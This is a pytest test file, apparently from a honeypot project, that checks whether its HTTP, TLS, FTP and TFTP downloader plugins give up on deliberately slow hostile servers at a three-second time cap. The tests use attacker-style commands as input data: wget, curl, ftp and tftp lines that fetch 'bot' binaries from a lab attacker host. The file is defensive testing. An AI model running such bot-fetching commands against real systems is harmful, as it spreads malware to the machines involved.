"""One deadline per download, on every read and the connect: hostile servers in the attacker
namespace drip the status line, the headers, the body, the chunk framing, the TLS handshake,
the FTP control and data connections and TFTP blocks; each download is cut within a second of
its configured cap (the test's monotonic clock around the real download call: the behaviour,
not a performance figure) and recorded as a failed try naming the cap."""

from __future__ import annotations

import time
from collections.abc import Iterator
from typing import Any

import pytest
from download_servers import PLUGIN_DIR, start
from netns import Lab, inside

from honeytrap.attack import Attack, Connection, Payload
from honeytrap.background import Task
from honeytrap.config import Config, PluginSpec
from honeytrap.plugin import load_plugins

# Each waits for a download's time cap of a few seconds.
pytestmark = [pytest.mark.netns, pytest.mark.slow]

CAP = 3.0  # the downloads' configured time cap (the plugins' `timeout` option), seconds
# A download is cut within this long after its cap (the "within a second").
GRACE = 1.0


@pytest.fixture(scope="module")
def lab() -> Iterator[Lab]:
    lab = Lab.create()
    try:
        yield lab
    finally:
        lab.close()
        for proc in lab.procs:
            if proc.stdout is not None:
                proc.stdout.close()


def download(lab: Lab, plugin: str, payload: bytes) -> tuple[dict[str, Any], float]:
    """Run `plugin` (the real downloader plugin, loaded as the daemon loads it) on an attack
    with this payload in the sensor namespace, and every download it starts; the attack's
    record and the seconds the download took."""
    config = Config(
        plugin_dir=PLUGIN_DIR,
        plugins=[PluginSpec(plugin, {"timeout": str(CAP)})],
        download_allow=["198.18.0.0/15", "2001:db8::/32"],
    )
    registry = load_plugins(config)
    conn = Connection("tcp", lab.sensor.ip4, 445, lab.attacker.ip4, 40000, Payload(payload))
    attack = Attack(conn)
    try:
        with inside(lab.sensor):
            started = time.monotonic()
            for _, hook in registry.hooks["analyze"]:
                for task in hook(attack) or ():
                    assert isinstance(task, Task)
                    task.run()  # the real download, as the download pool runs it
            elapsed = time.monotonic() - started
    finally:
        registry.close()
    return attack.to_json(), elapsed


def assert_cut_at_the_cap(record: dict[str, Any], elapsed: float) -> None:
    assert record["download_count"] == 0
    [attempt] = record["download_attempts"]
    assert attempt["outcome"] == "failed"
    assert attempt["reason"].endswith(f"time cap of {CAP:g} s reached"), attempt["reason"]
    print(f" cut after {elapsed:.3f} s (cap {CAP:g} s)", end="")
    assert CAP <= elapsed <= CAP + GRACE, elapsed


@pytest.mark.parametrize("kind", ["status", "headers", "body", "endless", "chunks"])
def test_a_dripping_http_server_is_cut_at_the_cap(lab: Lab, kind: str) -> None:
    port = start(lab, lab.attacker, "hostile", kind, lab.attacker.ip4)
    record, elapsed = download(
        lab, "httpDownload", f"wget http://{lab.attacker.ip4}:{port}/bot".encode()
    )
    assert_cut_at_the_cap(record, elapsed)


def test_a_dripping_tls_handshake_is_cut_at_the_cap(lab: Lab) -> None:
    port = start(lab, lab.attacker, "hostile", "tls", lab.attacker.ip4)
    record, elapsed = download(
        lab, "httpDownload", f"curl -k https://{lab.attacker.ip4}:{port}/bot".encode()
    )
    assert_cut_at_the_cap(record, elapsed)


def test_a_dripping_http_server_over_ipv6_is_cut_at_the_cap(lab: Lab) -> None:
    port = start(lab, lab.attacker, "hostile", "headers", lab.attacker.ip6)
    record, elapsed = download(
        lab, "httpDownload", f"wget http://[{lab.attacker.ip6}]:{port}/bot".encode()
    )
    assert_cut_at_the_cap(record, elapsed)


@pytest.mark.parametrize("kind", ["ftp", "ftpdata"])
def test_a_dripping_ftp_server_is_cut_at_the_cap(lab: Lab, kind: str) -> None:
    """`ftp` drips the greeting (the control connection), `ftpdata` the file (the data
    connection, after active mode was refused and passive mode set up)."""
    port = start(lab, lab.attacker, "hostile", kind, lab.attacker.ip4)
    record, elapsed = download(
        lab, "ftpDownload", f"ftp://u:p@{lab.attacker.ip4}:{port}/bot.exe".encode()
    )
    assert_cut_at_the_cap(record, elapsed)


def test_a_slow_endless_tftp_transfer_is_cut_at_the_cap(lab: Lab) -> None:
    port = start(lab, lab.attacker, "hostile", "tftp", lab.attacker.ip4)
    record, elapsed = download(
        lab, "tftpDownload", f"tftp -g -r bot.sh {lab.attacker.ip4} {port}".encode()
    )
    assert_cut_at_the_cap(record, elapsed)


def test_a_body_shorter_than_its_content_length_is_a_failed_try(lab: Lab) -> None:
    """Not a sample: a server that closes early must not leave a truncated file recorded."""
    port = start(lab, lab.attacker, "hostile", "short", lab.attacker.ip4)
    record, _elapsed = download(
        lab, "httpDownload", f"wget http://{lab.attacker.ip4}:{port}/bot".encode()
    )
    assert record["download_count"] == 0
    [attempt] = record["download_attempts"]
    assert (attempt["outcome"], attempt["reason"]) == (
        "failed", "HTTP body ended 900 bytes short of its Content-Length")
